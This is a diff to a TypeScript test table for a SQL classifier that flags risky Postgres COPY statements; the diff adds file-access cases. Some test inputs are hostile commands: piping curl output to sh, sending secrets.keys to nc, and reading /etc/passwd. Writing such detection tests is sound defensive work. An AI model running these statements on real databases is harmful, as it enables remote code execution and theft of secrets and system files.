@@ -109,8 +109,9 @@ const TABLE: Row[] = [
   { sql: 'copy users (id, email) from stdin with (format csv)', kind: 'copy', writes: ['public.users'], detail: 'COPY FROM STDIN' },
   { sql: "COPY users FROM PROGRAM 'curl http://x | sh'", kind: 'copy', writes: ['public.users'], flags: ['copy_program'], detail: 'COPY FROM PROGRAM' },
   { sql: "copy (select * from secrets.keys) to program 'nc host 1'", kind: 'copy', reads: ['secrets.keys'], flags: ['copy_program'], detail: 'COPY TO PROGRAM' },
+  { sql: "copy users to '/var/lib/postgresql/out.csv'", kind: 'copy', reads: ['public.users'], flags: ['copy_file'], detail: 'COPY TO FILE' },
+  { sql: "copy users from '/etc/passwd'", kind: 'copy', writes: ['public.users'], flags: ['copy_file'], detail: 'COPY FROM FILE' },
   { sql: 'copy (delete from t returning *) to stdout', kind: 'copy', kinds: ['copy', 'delete'], writes: ['public.t'], flags: ['no_where'] },
-  { sql: "copy t from '/etc/passwd'", kind: 'copy', writes: ['public.t'], detail: 'COPY FROM FILE' },
 
   // --- DDL
   { sql: 'CREATE TABLE s.t (id int primary key, ref int references s.parent(id))', kind: 'create', writes: ['s.t'], reads: ['s.parent'], detail: 'CREATE TABLE' },
